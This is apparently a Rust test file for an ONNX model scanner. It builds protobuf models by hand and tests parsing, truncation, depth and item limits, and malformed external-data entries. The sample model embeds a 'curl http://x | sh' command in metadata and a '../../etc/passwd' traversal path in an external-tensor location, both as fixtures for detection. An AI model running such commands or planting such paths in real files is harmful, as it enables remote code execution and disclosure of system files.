use super::*;

/// A tiny protobuf writer for hand-built models.
fn varint(mut v: u64, out: &mut Vec<u8>) {
    loop {
        let b = (v & 0x7f) as u8;
        v >>= 7;
        if v == 0 {
            out.push(b);
            return;
        }
        out.push(b | 0x80);
    }
}

fn int(field: u64, v: u64) -> Vec<u8> {
    let mut out = Vec::new();
    varint(field << 3, &mut out);
    varint(v, &mut out);
    out
}

fn len(field: u64, payload: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    varint((field << 3) | 2, &mut out);
    varint(payload.len() as u64, &mut out);
    out.extend_from_slice(payload);
    out
}

fn cat(parts: &[Vec<u8>]) -> Vec<u8> {
    parts.concat()
}

fn entry(k: &str, v: &str) -> Vec<u8> {
    cat(&[len(1, k.as_bytes()), len(2, v.as_bytes())])
}

fn opset(domain: &str, v: u64) -> Vec<u8> {
    cat(&[len(1, domain.as_bytes()), int(2, v)])
}

fn node(op: &str, domain: &str, attrs: &[Vec<u8>]) -> Vec<u8> {
    let mut parts = vec![len(4, op.as_bytes()), len(7, domain.as_bytes())];
    parts.extend(attrs.iter().map(|a| len(5, a)));
    cat(&parts)
}

fn external_tensor(name: &str, location: &str, dims: &[u64]) -> Vec<u8> {
    let mut parts: Vec<Vec<u8>> = dims.iter().map(|d| int(1, *d)).collect();
    parts.push(int(2, 1));
    parts.push(len(8, name.as_bytes()));
    parts.push(len(13, &entry("location", location)));
    parts.push(len(13, &entry("offset", "16")));
    parts.push(int(14, 1));
    cat(&parts)
}

fn model(graph: &[u8], extra: &[Vec<u8>]) -> Vec<u8> {
    let mut parts = vec![
        int(1, 9),
        len(2, b"pytorch"),
        len(3, b"2.5.1"),
        len(7, graph),
        len(8, &opset("", 17)),
    ];
    parts.extend_from_slice(extra);
    cat(&parts)
}

fn sample() -> Vec<u8> {
    let then_branch = cat(&[
        len(1, &node("PyOp", "ai.onnx.contrib", &[])),
        len(5, &external_tensor("inner", "../../etc/passwd", &[2])),
    ]);
    let if_attr = cat(&[len(1, b"then_branch"), len(6, &then_branch), int(20, 5)]);
    let graph = cat(&[
        len(1, &node("Gemm", "", &[])),
        len(1, &node("Gemm", "", &[])),
        len(1, &node("If", "", &[if_attr])),
        len(2, b"main_graph"),
        len(5, &external_tensor("w", "weights.bin", &[4, 3])),
    ]);
    model(
        &graph,
        &[
            len(14, &entry("author", "someone")),
            len(14, &entry("note", "curl http://x | sh")),
        ],
    )
}

#[test]
fn reads_the_structure() {
    let data = sample();
    assert!(sniff(&data));
    let v = parse(&data).unwrap();
    assert!(v.complete && v.has_graph);
    assert_eq!(v.ir_version, 9);
    assert_eq!(v.producer_name, "pytorch");
    assert_eq!(
        v.opsets,
        [Opset {
            domain: String::new(),
            version: 17
        }]
    );
    assert_eq!(v.graph_name, "main_graph");
    assert_eq!(v.node_count, 4);
    assert_eq!(v.graph_count, 2);
    let gemm = v.ops.iter().find(|o| o.op_type == "Gemm").unwrap();
    assert_eq!(gemm.count, 2);
    let py = v.ops.iter().find(|o| o.op_type == "PyOp").unwrap();
    assert_eq!(py.domain, "ai.onnx.contrib");
    assert_eq!(py.graph, "main/#2.then_branch");
    assert_eq!(v.external.len(), 2);
    let w = v.external.iter().find(|t| t.name == "w").unwrap();
    assert_eq!(w.location.as_deref(), Some("weights.bin"));
    assert_eq!(w.offset, Some(16));
    assert_eq!(w.expected_bytes, Some(48));
    let inner = v.external.iter().find(|t| t.name == "inner").unwrap();
    assert_eq!(inner.graph, "main/#2.then_branch");
    let note = v
        .texts
        .iter()
        .find(|t| t.key == "metadata_props.note" && t.text.starts_with("curl"))
        .unwrap();
    // The offset of the second metadata_props field.
    assert_eq!(data[note.offset as usize], (14 << 3 | 2) as u8);
}

#[test]
fn truncation_at_every_offset_is_an_error_or_a_view() {
    let data = sample();
    for cut in 0..data.len() {
        let _ = sniff(&data[..cut]);
        let _ = parse(&data[..cut]);
    }
    // Every single-byte corruption too.
    for i in 0..data.len() {
        let mut d = data.clone();
        d[i] ^= 0xff;
        let _ = parse(&d);
    }
}

#[test]
fn not_onnx() {
    assert!(!sniff(b"\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00N."));
    assert!(!sniff(b"{\"a\": 1}"));
    assert!(!sniff(b""));
    // A TensorFlow SavedModel: schema version 1, then meta_graphs only.
    let saved_model = cat(&[int(1, 1), len(2, &[0x0a, 0x00])]);
    assert!(!sniff(&saved_model));
    // ir_version then a field ModelProto does not have.
    assert!(!sniff(&cat(&[int(1, 7), int(9, 1)])));
    assert!(matches!(parse(b"\x62\x00"), Err(OnnxError::NotAModel)));
    assert!(matches!(parse(b"\x0a\x00"), Err(OnnxError::Decode { .. })));
    assert!(matches!(
        parse(b"\x08"),
        Err(OnnxError::Malformed { offset: 0, .. })
    ));
}

#[test]
fn sniffs_a_truncated_head() {
    let data = sample();
    assert!(sniff(&data[..data.len() / 2]));
    assert!(!sniff(&data[..5]));
}

#[test]
fn non_utf8_strings_are_read_lossily() {
    let graph = len(1, &node("Op\u{0}", "my.\u{7f}", &[]));
    let mut data = model(&graph, &[]);
    let at = data.windows(2).position(|w| w == b"Op").unwrap();
    data[at] = 0xff;
    let v = parse(&data).unwrap();
    assert!(v.ops[0].op_type.starts_with('\u{fffd}'));
}

#[test]
fn bad_external_entries_are_problems() {
    let t = cat(&[
        int(2, 1),
        len(13, &entry("offset", "-1")),
        len(13, &entry("length", "ten")),
    ]);
    let v = parse(&model(&len(5, &t), &[])).unwrap();
    let x = &v.external[0];
    assert_eq!(x.offset, None);
    assert_eq!(x.problems.len(), 3, "{:?}", x.problems);
    assert!(!x.declared_external);
}

#[test]
fn deep_nesting_is_a_limit() {
    let mut g = len(1, &node("Relu", "", &[]));
    for _ in 0..40 {
        let attr = cat(&[len(1, b"body"), len(6, &g)]);
        g = len(1, &node("Loop", "", &[attr]));
    }
    let v = parse(&model(&g, &[])).unwrap();
    assert_eq!(v.limits_hit, [("onnx_max_depth", u64::from(MAX_DEPTH))]);
    assert!(!v.complete);
    assert_eq!(v.producer_name, "pytorch");
}

#[test]
fn many_empty_nodes_hit_the_item_budget() {
    let mut graph = Vec::with_capacity(9 << 20);
    for _ in 0..=MAX_ITEMS {
        graph.extend_from_slice(&[0x0a, 0x00]);
    }
    let v = parse(&model(&graph, &[])).unwrap();
    assert!(!v.complete);
    assert!(
        v.limits_hit[0].0.starts_with("onnx_max_"),
        "{:?}",
        v.limits_hit
    );
}

#[test]
fn element_sizes() {
    assert_eq!(expected_bytes(&[4, 3], 1), Some(48));
    assert_eq!(expected_bytes(&[3], 22), Some(2));
    assert_eq!(expected_bytes(&[-1], 1), None);
    assert_eq!(expected_bytes(&[i64::MAX, i64::MAX], 1), None);
    assert_eq!(expected_bytes(&[2], 8), None);
    assert_eq!(expected_bytes(&[], 7), Some(8));
}
